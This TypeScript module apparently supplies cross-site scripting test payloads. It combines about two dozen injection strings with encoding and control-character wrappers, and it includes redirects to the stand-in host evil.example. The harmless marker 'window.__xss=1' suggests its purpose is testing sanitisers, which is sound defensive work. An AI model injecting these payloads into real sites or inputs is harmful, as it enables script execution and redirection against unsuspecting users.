/** Texts that run a script where a page takes them for markup, an address, a template or a message. */
const run = 'window.__xss=1'

const cores = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `<svg><animate onbegin="${run}" attributeName=x></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<a href="javascript:${run}">open</a>`,
  `<form action="javascript:${run}"><button>send</button></form>`,
  `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<body onpageshow="${run}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<object data="javascript:${run}"></object>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror='${run}'>"}}`,
  `' onmouseover='${run}' autofocus onfocus='${run}`,
  `" onmouseover="${run}" autofocus onfocus="${run}`,
  `--><script>${run}</script><!--`,
]

const wrappers: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => `</script></textarea></title></style>${core}`,
  (core) => `\u202e${core}\u202c`,
  (core) => `\u2066${core}\u2069\u200b`,
  (core) => `\u001b[31m${core}\u001b[0m\u0007`,
  (core) => `"'\`>${core}`,
  (core) => `&lt;${core.replaceAll('<', '&lt;')}&gt;${core}`,
  (core) => `\n\r\t${core.toUpperCase()}\u2028${core}`,
]

export const payloads: readonly string[] = cores.flatMap((core) => wrappers.map((wrap) => wrap(core)))
